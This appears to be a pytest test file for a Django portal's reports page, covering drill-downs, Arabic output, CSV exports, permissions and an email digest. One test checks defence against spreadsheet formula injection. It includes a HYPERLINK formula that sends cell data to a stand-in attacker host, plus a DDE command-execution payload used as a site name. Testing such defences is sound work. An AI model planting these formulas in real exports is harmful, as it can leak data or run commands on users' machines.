"""The report page, its drill-downs into the inbox, CSV exports and the weekly digest."""

import csv
import email
import email.policy
import io
import re

import pytest

from portal.reports.models import DigestSent
from portal.reports.services.digest import digest_send
from portal.reports.services.snapshot import snapshot_take
from portal.sites.models import Profile, Site, SiteGrant
from tests.integration.notifications.servers import Mailbox
from tests.integration.reports.test_snapshots import (  # noqa: F401 (history is a fixture)
    S1,
    S2,
    at,
    history,
    set_time,
)
from tests.standin_sites import connect_user

pytestmark = pytest.mark.django_db(transaction=True)  # the inbox reads sites in threads
PERIOD = "since=2026-11-17&until=2026-11-23"


@pytest.fixture
def lead(django_user_model, history):  # noqa: F811 (the fixture imported above)
    site, handle, names = history
    user = django_user_model.objects.create_user("leila", email="leila@example.com")
    Profile.objects.create(user=user, role=Profile.Role.LEAD)
    SiteGrant.objects.create(site=site, user=user)
    connect_user(user=user, site=site, as_user="manager1@reportsite.test")
    snapshot_take(site=site)
    return user, site, handle, names


def test_the_report_shows_the_figures_of_the_period(client, lead):
    user, site, handle, names = lead
    client.force_login(user)
    body = client.get(f"/reports/?{PERIOD}").content.decode()
    figures = re.findall(r'<span class="figure">([^<]+)</span>', body)
    assert figures == ["4", "3", "2", "50.0%", "33.3%", "0", "0"]
    assert 'id="report-data"' in body and "chart-trend" in body
    assert "Old follow-up" in body  # the most overdue task, linked to its page
    assert f"/tasks/{site.pk}/{names['old']}/" in body


def test_the_menu_link_without_filters_shows_the_last_thirty_days(client, lead):
    user, site, handle, names = lead
    client.force_login(user)
    response = client.get("/reports/")  # what the navigation links to
    assert response.status_code == 200
    body = response.content.decode()
    assert 'name="since" value="2026-10-25"' in body and 'name="until" value="2026-11-23"' in body
    assert "Old follow-up" in body


def test_in_arabic_the_figures_use_western_digits_as_the_task_pages_do(client, lead):
    user, site, handle, names = lead
    client.force_login(user)
    client.cookies["django_language"] = "ar"
    body = client.get(f"/reports/?{PERIOD}").content.decode()
    assert '<html lang="ar" dir="rtl">' in body
    # 4 open, 3 overdue in the history fixture
    assert '<span class="figure">4</span>' in body and '<span class="figure">3</span>' in body


def test_every_overdue_number_drills_down_to_exactly_its_tasks(client, lead):
    user, site, handle, names = lead
    client.force_login(user)
    body = client.get(f"/reports/?{PERIOD}").content.decode()
    links = dict(re.findall(r'<a href="(/tasks/\?[^"]+)">(\d+)</a>', body.replace("&amp;", "&")))
    assert links, "the report has no drill-down links"
    for link, number in links.items():
        page = client.get(link)
        assert page.status_code == 200, link
        rows = re.findall(r'data-task="(\d+)"', page.content.decode())
        assert len(set(rows)) == int(number), link


def test_completions_drill_down_to_the_completed_tasks(client, lead):
    user, site, handle, names = lead
    client.force_login(user)
    body = client.get(f"/reports/completed/?site={site.pk}&{PERIOD}&status=done").content.decode()
    assert "Finished early" in body and "Finished late" in body and "Dropped" not in body
    assert "<h1>Completed tasks</h1>" in body
    body = client.get(f"/reports/completed/?site={site.pk}&{PERIOD}&status=cancelled").content
    assert "<h1>Cancelled tasks</h1>" in body.decode() and b"Finished early" not in body
    assert b"Dropped" in body


def test_csv_exports_carry_a_bom_and_read_back_in_arabic(client, lead):
    user, site, handle, names = lead
    client.force_login(user)
    response = client.get(f"/reports/export/people.csv?{PERIOD}")
    assert response["Content-Type"].startswith("text/csv")
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:5] == ["Site", "Site user", "Name", "Open", "Overdue"]
    by_user = {row[1]: row for row in rows[1:]}
    assert by_user[S1][3:6] == ["3", "2", "1"] and by_user[S2][3:6] == ["1", "1", "1"]
    worst = client.get(f"/reports/export/worst.csv?{PERIOD}").content.decode("utf-8-sig")
    assert "اجتماع مع العميل" in worst


FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_quoted_text(
    client, lead, settings, tmp_path
):
    user, site, handle, names = lead
    set_time(settings, tmp_path, handle, at("2026-11-23 12:05"))  # a newer snapshot than lead's
    handle.control.insert_tasks([
        {"title": title, "status": "Todo", "priority": "High", "assignees": [S1],
         "start_date": "2026-11-15 09:00:00", "due_date": "2026-11-20 09:00:00"}
        for title in FORMULAS
    ])  # fmt: skip
    snapshot_take(site=site)
    Site.objects.filter(pk=site.pk).update(name="=cmd|' /C calc'!A0")
    client.force_login(user)

    worst = client.get(f"/reports/export/worst.csv?{PERIOD}").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(worst, newline="")))

    titles = {row[2] for row in rows[1:]}
    assert {"'" + title for title in FORMULAS} <= titles
    assert {row[0] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    assert all(row[3].isdigit() for row in rows[1:])  # days overdue stay numbers
    for table in ("sites", "people"):
        body = client.get(f"/reports/export/{table}.csv?{PERIOD}").content.decode("utf-8-sig")
        cells = [row[0] for row in list(csv.reader(io.StringIO(body, newline="")))[1:]]
        assert cells and set(cells) == {"'=cmd|' /C calc'!A0"}, table


def test_members_may_not_see_reports(client, django_user_model):
    member = django_user_model.objects.create_user("mona")
    Profile.objects.create(user=member, role=Profile.Role.MEMBER)
    client.force_login(member)
    assert client.get("/reports/").status_code == 403
    assert client.get("/reports/export/sites.csv").status_code == 403


@pytest.fixture
def smtp_sink(settings):
    """A real SMTP server on loopback; Django's SMTP backend pointed at it."""
    box = Mailbox().start()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_USE_TLS = "127.0.0.1", box.port, False
    yield box
    box.stop()


def test_the_digest_reaches_the_lead_once_in_their_language(lead, smtp_sink, settings):
    user, site, handle, names = lead
    user.profile.language = "ar"
    user.profile.save()
    assert digest_send(user=user) is True
    assert digest_send(user=user) is False  # the same period again: nothing
    assert DigestSent.objects.filter(user=user).count() == 1
    [mail] = smtp_sink.mails
    message = email.message_from_bytes(mail.raw, policy=email.policy.default)
    assert message["To"] == "leila@example.com"
    html = message.get_body(("html",)).get_content()
    text = message.get_body(("plain",)).get_content()
    assert 'dir="rtl"' in html and 'lang="ar"' in html
    assert "Old follow-up" in text and f"/tasks/{site.pk}/{names['old']}/" in text
    assert settings.PORTAL_BASE_URL + "/reports/?" in text
